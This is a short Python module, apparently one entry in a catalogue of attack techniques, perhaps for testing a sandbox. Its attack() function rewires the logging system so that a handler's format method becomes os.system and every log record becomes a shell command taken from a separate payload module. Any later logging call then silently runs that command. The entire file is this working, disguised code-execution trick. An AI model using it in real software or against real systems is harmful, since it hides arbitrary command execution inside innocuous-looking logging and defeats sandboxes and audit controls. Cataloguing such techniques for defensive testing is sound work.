"""A record is a command, and a handler's format() a function of C."""
CATEGORY = "borrowed"
REACH = "run"

import logging
import os

from . import payload


class Record(str):
    levelno = logging.CRITICAL
    name = "root"

    def __new__(cls, *args):
        return str.__new__(cls, payload.COMMAND)

    def __init__(self, *args):
        pass


def attack():
    handler = logging.StreamHandler()
    handler.format = os.system
    logging.getLogger().addHandler(handler)
    logging.setLogRecordFactory(Record)
